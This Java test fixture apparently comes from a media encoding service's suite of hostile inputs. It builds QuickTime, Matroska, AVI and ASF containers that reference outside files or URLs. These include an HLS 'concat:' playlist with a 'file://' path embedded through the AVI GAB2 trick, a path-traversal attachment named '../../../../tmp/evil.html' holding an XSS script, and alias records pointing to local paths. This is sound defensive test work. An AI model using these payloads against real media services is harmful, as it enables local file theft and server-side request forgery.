package dev.ozean.encoding.hostile;

import static dev.ozean.encoding.hostile.Boxes.box;
import static dev.ozean.encoding.hostile.Boxes.ftyp;
import static dev.ozean.encoding.hostile.Boxes.full;
import static dev.ozean.encoding.hostile.Bytes.join;
import static dev.ozean.encoding.hostile.Bytes.latin;
import static dev.ozean.encoding.hostile.Bytes.little16;
import static dev.ozean.encoding.hostile.Bytes.little32;
import static dev.ozean.encoding.hostile.Bytes.noise;
import static dev.ozean.encoding.hostile.Bytes.text;
import static dev.ozean.encoding.hostile.Bytes.u16;
import static dev.ozean.encoding.hostile.Bytes.u32;
import static dev.ozean.encoding.hostile.Bytes.u8;
import static dev.ozean.encoding.hostile.Bytes.zeros;
import static dev.ozean.encoding.hostile.Ebml.element;
import static dev.ozean.encoding.hostile.Ebml.uint;
import static dev.ozean.encoding.hostile.Ebml.words;
import static dev.ozean.encoding.protocol.FailureCode.NOT_MEDIA;
import static dev.ozean.encoding.protocol.FailureCode.REFERENCES_ONLY;

import java.util.List;

/** Real containers that say that a part of them is elsewhere. */
final class References {
    private static final String KIND = "reference";

    private References() {}

    static List<Evil> of(Targets targets) {
        return List.of(
                Evil.refused(KIND, "QuickTime with its pictures at an address", address(targets), REFERENCES_ONLY),
                Evil.refused(KIND, "QuickTime with its pictures in a file", path(targets), REFERENCES_ONLY),
                Evil.refused(KIND, "QuickTime with its pictures behind an alias", alias(targets), REFERENCES_ONLY),
                Evil.refused(KIND, "QuickTime of another film", referring(targets, "url "), REFERENCES_ONLY),
                Evil.refused(KIND, "QuickTime of another film's alias", referring(targets, "alis"), REFERENCES_ONLY),
                Evil.played(KIND, "Matroska with neighbours before and behind", linked(targets)),
                Evil.played(KIND, "Matroska with chapters of other films", chapters()),
                Evil.played(KIND, "Matroska with fonts, a page and a playlist attached", attachments(targets)),
                Evil.played(KIND, "AVI with a playlist as its words", gab2(targets, hls(targets))),
                Evil.played(KIND, "AVI with a concat script as its words", gab2(targets, concat(targets))),
                Evil.played(KIND, "QuickTime with an address in its description", described(targets)),
                Evil.refused(KIND, "ASF with nothing but a command", command(targets), NOT_MEDIA));
    }

    private static Film film() {
        return Film.of(25);
    }

    private static byte[] address(Targets targets) {
        return film().elsewhere(full("url ", 0, 0, latin(targets.url("dref.mov")), u8(0)));
    }

    private static byte[] path(Targets targets) {
        return film().elsewhere(full("url ", 0, 0, latin("file://" + targets.film()), u8(0)));
    }

    /** As old QuickTime wrote it: volume, folder and name, then the whole path in parts by number. */
    private static byte[] alias(Targets targets) {
        return film().elsewhere(full("alis", 0, 0, record(targets)));
    }

    private static byte[] record(Targets targets) {
        var path = text(targets.film().toString());
        var name = text(targets.film().getFileName().toString());
        var tail = join(
                u16(2, path.length),
                path,
                zeros(path.length % 2),
                u16(18, path.length),
                path,
                zeros(path.length % 2),
                u16(-1, 0));
        return join(
                zeros(4),
                u16(150 + tail.length, 2, 0),
                pascal(latin("disk"), 28),
                zeros(12),
                pascal(name, 64),
                zeros(16),
                u16(0, 0),
                zeros(16),
                tail);
    }

    private static byte[] pascal(byte[] text, int room) {
        return join(u8(text.length), text, zeros(room - 1 - text.length));
    }

    private static byte[] referring(Targets targets, String type) {
        var data = type.equals("url ") ? join(latin(targets.url("rmra.mov")), u8(0)) : record(targets);
        var reference = full("rdrf", 0, 0, latin(type), u32(data.length), data);
        return join(ftyp(), box("moov", box("rmra", box("rmda", reference), box("rmda", reference))));
    }

    private static byte[] linked(Targets targets) {
        return Reel.of(25)
                .info(
                        element(0x73a4, noise(16, 1)),
                        element(0x3cb923, noise(16, 2)),
                        words(0x3c83ab, targets.film().toString()),
                        element(0x3eb923, noise(16, 3)),
                        words(0x3e83bb, targets.url("next.mkv")))
                .bytes();
    }

    private static byte[] chapters() {
        var chapter = Reel.chapter(900_000_000L, element(0x6e67, noise(16, 2)), uint(0x6ebc, 1));
        return Reel.of(25).chapters(uint(0x45dd, 1), chapter).bytes();
    }

    private static byte[] attachments(Targets targets) {
        return Reel.of(25)
                .attachments(
                        Reel.attachment("evil.ttf", "application/x-truetype-font", noise(4 << 20, 5)),
                        Reel.attachment("../../../../tmp/evil.html", "text/html", latin("<script>alert(1)</script>")),
                        Reel.attachment("list.m3u8", "application/vnd.apple.mpegurl", latin(hls(targets))))
                .bytes();
    }

    private static String hls(Targets targets) {
        return "#EXTM3U\n#EXT-X-MEDIA-SEQUENCE:0\n#EXTINF:10.0,\nconcat:%s|file://%s\n#EXT-X-ENDLIST\n"
                .formatted(targets.url("gab2"), targets.film());
    }

    private static String concat(Targets targets) {
        return "ffconcat version 1.0\nfile '%s'\n".formatted(targets.film());
    }

    /** The trick by which services of others lost their files. */
    private static byte[] gab2(Targets targets, String script) {
        var name = Bytes.little16('a', 0);
        var content = join(
                latin("GAB2"),
                u8(0),
                little16(2),
                little32(name.length),
                name,
                little16(4),
                little32(script.length()),
                latin(script));
        return Riff.of(25).stream(Riff.stream("txts", "\0\0\0\0", 1, 25, 1, zeros(0)))
                .chunk(Riff.chunk("01tx", content))
                .bytes();
    }

    private static byte[] described(Targets targets) {
        var text = latin(targets.url("udta"));
        return film().adding("moov", box("udta", box("\u00a9url", u16(text.length, 0), text)))
                .bytes();
    }

    private static byte[] command(Targets targets) {
        var head = Bytes.u8(
                0x30, 0x26, 0xb2, 0x75, 0x8e, 0x66, 0xcf, 0x11, 0xa6, 0xd9, 0x00, 0xaa, 0x00, 0x62, 0xce, 0x6c);
        return join(head, Bytes.little64(30), little32(1), u8(1, 2), latin("URL" + targets.url("asf")));
    }
}
